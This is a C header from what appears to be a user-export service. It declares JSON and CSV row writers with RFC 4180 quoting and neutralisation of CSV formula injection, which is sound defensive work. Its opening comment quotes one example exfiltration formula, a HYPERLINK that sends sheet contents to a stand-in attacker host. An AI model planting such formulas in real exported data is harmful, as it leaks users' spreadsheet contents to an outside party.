/*
 * user_format.h — how a user row is written by the read side: the columns a
 * query selects, one user as a JSON object, one user as a CSV record, and the
 * CSV cell with its quoting and formula neutralisation.
 *
 * CSV follows RFC 4180: a cell holding a comma, a double quote, CR or LF is
 * quoted and its quotes doubled; NULL is an empty cell; records end in CRLF.
 *
 * Formulas: spreadsheet programs evaluate a cell that begins with `=`, `+`,
 * `-` or `@` (and some do after a leading TAB or CR) when they open a CSV
 * file, so a user name such as `=HYPERLINK("http://evil.example/?"&A1)`
 * becomes a link that leaks the sheet, or worse. By default such a cell gets
 * a leading single quote, OWASP's advice: spreadsheets read it as "this is
 * text". A client that wants the stored bytes asks for them
 * (JI_CSV_FORMULAS_RAW, `?formulas=raw`).
 */
#ifndef JI_USER_FORMAT_H
#define JI_USER_FORMAT_H

#include <libpq-fe.h>
#include "json_text.h"

/** A timestamptz column as the read side writes every timestamp: RFC 3339 in UTC, microseconds. */
#define JI_SQL_TIMESTAMP(col) "to_char(" col " AT TIME ZONE 'UTC', 'YYYY-MM-DD\"T\"HH24:MI:SS.US\"Z\"')"

/** The columns, in this order, of every query whose rows are written here. created_at as RFC 3339 in UTC. */
#define JI_USER_COLUMNS                                                                                                \
    "user_id, name, email, image_path IS NOT NULL, image_type, image_size, batch_id, " JI_SQL_TIMESTAMP("created_at")
enum {
    JI_USER_COL_ID,
    JI_USER_COL_NAME,
    JI_USER_COL_EMAIL,
    JI_USER_COL_HAS_IMAGE,
    JI_USER_COL_IMAGE_TYPE,
    JI_USER_COL_IMAGE_SIZE,
    JI_USER_COL_BATCH_ID,
    JI_USER_COL_CREATED_AT,
    JI_USER_NCOLS
};

/** The first line of a CSV export. */
#define JI_USER_CSV_HEADER "user_id,name,email,image_url,image_type,image_size,batch_id,created_at\r\n"

/** What the CSV export does with a cell that starts like a formula. */
typedef enum {
    JI_CSV_FORMULAS_NEUTRALISE, /**< prefix it with `'` (the default) */
    JI_CSV_FORMULAS_RAW,        /**< write the stored bytes unchanged (`?formulas=raw`) */
} ji_csv_formulas_t;

/** Row `row` of `res` (JI_USER_COLUMNS) as a JSON object and a newline, appended to `t`. */
void ji_user_json(ji_text_t *t, const PGresult *res, int row);

/** Row `row` of `res` (JI_USER_COLUMNS) as a CSV record (columns of JI_USER_CSV_HEADER, CRLF), appended to `t`. */
void ji_user_csv(ji_text_t *t, const PGresult *res, int row, ji_csv_formulas_t formulas);

/** Whether a spreadsheet could read the cell as a formula: it begins with `=`, `+`, `-`, `@`, TAB or CR. */
bool ji_csv_is_formula(const char *s, size_t len);

/**
 * Appends the cell `s` (`len` bytes, any bytes) to `t`: a leading `'` first when `formulas` says to neutralise
 * and the cell starts like a formula; then, when the cell holds a comma, a double quote, CR or LF, the whole cell
 * (the `'` included) in double quotes with its quotes doubled, else the bytes as they are.
 */
void ji_csv_cell(ji_text_t *t, const char *s, size_t len, ji_csv_formulas_t formulas);

#endif
